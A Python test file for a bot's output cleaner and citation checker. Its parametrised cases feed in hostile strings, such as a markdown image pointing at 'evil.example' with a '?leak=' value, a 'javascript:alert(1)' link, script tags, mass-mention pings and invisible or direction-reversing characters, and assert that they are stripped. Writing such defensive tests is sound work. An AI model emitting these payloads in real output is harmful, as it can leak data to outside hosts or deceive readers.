"""A model's text is a stranger's: what may be shown of it."""

import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.agent.citations import numbered, passages_by_tag, plain_tags, strays, without_numbers
from bot.agent.cleaning import LONGEST, bounded, clean
from bot.agent.drafts import finish, judge
from bot.agent.sentences import continued, ends
from tests.bot.agent.scripted import check, cut, fact, passage
from tools.grounds import Grounds

GROUNDS = (Grounds("t", (), "", facts=(fact(),), passages=(passage(), passage("Credit was calm.", 8))),)
BY_TAG = passages_by_tag(GROUNDS)


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("Hello @everyone and @here.", "Hello everyone and here."),
        ("Ask <@123> or <@&45> in <#6>.", "Ask  or  in ."),
        ("<@<@1>23>", "<23>"),
        ("See [the page](https://evil.example/x).", "See the page."),
        ("See https://evil.example/x?q=1 now.", "See  now."),
        ("![chart](https://evil.example/?leak=64.1)", "chart"),
        ("[x][1]\n\n[1]: https://evil.example", "[x][1]"),
        ("Go to www.evil.example.", "Go to"),
        ("<https://evil.example>", ""),
        ("[a](javascript:alert(1))", "a)"),
        ("6\u200b4.1 and \u202e1.46", "64.1 and 1.46"),
        ("a\x00b\x1b[31mc", "ab[31mc"),
        ("<b>bold</b> <script>x</script>", "bold x"),
        ("RSI < 30 and > 20 @ the close", "RSI < 30 and > 20 @ the close"),
        ("a\r\nb\n\n\n\nc", "a\nb\n\nc"),
    ],
)
def test_nothing_but_plain_words_is_left(written: str, shown: str) -> None:
    assert clean(written) == shown


def test_an_address_that_a_passage_quotes_may_stay() -> None:
    quoted = "The file is at https://www.example.org/iwm.csv for all."
    assert "https://www.example.org/iwm.csv" in clean("See https://www.example.org/iwm.csv.", [quoted])
    assert clean("See https://www.example.org/other.", [quoted]) == "See"


@given(st.text(alphabet=st.sampled_from("<>@#!&[]()/:.wht ps\u200b\u202eab1\n"), max_size=80))
def test_cleaning_twice_changes_nothing_more_and_leaves_no_mention_or_link(written: str) -> None:
    once = clean(written)
    assert clean(once) == once
    assert "http://" not in once
    assert "https://" not in once
    assert "<@" not in once
    assert not any(unicodedata.category(letter) in ("Cf", "Cs", "Co") for letter in once)


@given(st.lists(st.text(alphabet="ab .\n", min_size=1, max_size=400), max_size=40))
def test_a_long_text_ends_at_a_sentence_that_fits(parts: list[str]) -> None:
    text = ". ".join(parts)
    short = bounded(text)
    assert len(short) <= LONGEST
    assert text.startswith(short.removesuffix("…"))


@pytest.mark.parametrize(
    ("text", "sentences"),
    [
        ("RSI is 64.1. It is firm. ", ["RSI is 64.1.", "It is firm."]),
        ("RSI is 64.", []),
        ("It holds vs. SPY now. Yes! ", ["It holds vs. SPY now.", "Yes!"]),
        ("- one\n- two\nthr", ["- one", "- two"]),
        ("So it was said. [3fa2c1:7] And on. ", ["So it was said. [3fa2c1:7]", "And on."]),
        ("1. First point. And", ["1. First point."]),
        ("The U.S. market rose. ", ["The U.S. market rose."]),
    ],
)
def test_a_sentence_ends_where_people_see_it_end(text: str, sentences: list[str]) -> None:
    found, start = [], 0
    for end in ends(text):
        found.append(text[start:end].strip())
        start = end
    assert found == sentences


def test_what_goes_on_from_a_beginning_says_nothing_twice() -> None:
    assert continued("A is so.", "B is so. A is so. C.") == "A is so.\n\nB is so. C."
    assert continued("A is so.", "A is so.") == "A is so."


class TestCitations:
    def test_tags_become_numbers_in_the_order_of_first_mention(self) -> None:
        text = plain_tags("Calm [3FA2C1:8]; broad [3fa2c1:7, 3fa2c1:8]. As said [4], or [^2].")
        shown, cited = numbered(text, BY_TAG)
        assert shown == "Calm [1]; broad [2][1]. As said, or."
        assert [(one.number, one.quote) for one in cited] == [
            (1, "Credit was calm."),
            (2, "Breadth was 43 % of members."),
        ]
        assert without_numbers(shown) == "Calm; broad. As said, or."

    def test_a_tag_that_points_nowhere_fails(self) -> None:
        (stray,) = strays("So it was [3fa2c1:7] and was [ffffff:1].", BY_TAG)
        assert stray.text == "[ffffff:1]"
        assert not stray.holds

    def test_a_sentence_with_such_a_tag_is_cut(self) -> None:
        text = "Breadth was thin, as a desk said at the time [3fa2c1:7]. Credit was bad [ffffff:1]."
        draft = judge(text, GROUNDS, "", check)
        assert not draft.holds
        done = finish(draft, GROUNDS, "", check, cut)
        assert done is not None
        assert done.text == "Breadth was thin, as a desk said at the time [1]."
        assert [one.number for one in done.citations] == [1]
        assert done.removed == 1


class TestDrafts:
    def test_what_holds_is_shown_with_the_facts_it_rests_on(self) -> None:
        done = finish(judge("RSI 14 is 64.1.", GROUNDS, "", check), GROUNDS, "", check, cut)
        assert done is not None
        assert [one.value for one in done.facts] == [64.1]

    def test_invisible_characters_do_not_get_a_figure_past_the_check(self) -> None:
        draft = judge("RSI 14 is 9\u200b9.9.", GROUNDS, "", check)
        assert [claim.text for claim in draft.failures] == ["99.9"]

    @pytest.mark.parametrize(
        "written",
        ["", "RSI 14 is 71.9.", "So: 71.9. Yes.", "I looked and looked and looked at it all day. RSI 71.9."],
    )
    def test_what_says_nothing_is_not_shown(self, written: str) -> None:
        assert finish(judge(written, GROUNDS, "", check), GROUNDS, "", check, cut) is None

    def test_a_text_past_the_limit_is_shortened_with_its_citations(self) -> None:
        text = "All is calm here, as it was said. " * 200 + "So [3fa2c1:7]."
        done = finish(judge(text, GROUNDS, "", check), GROUNDS, "", check, cut)
        assert done is not None
        assert done.shortened
        assert done.citations == ()
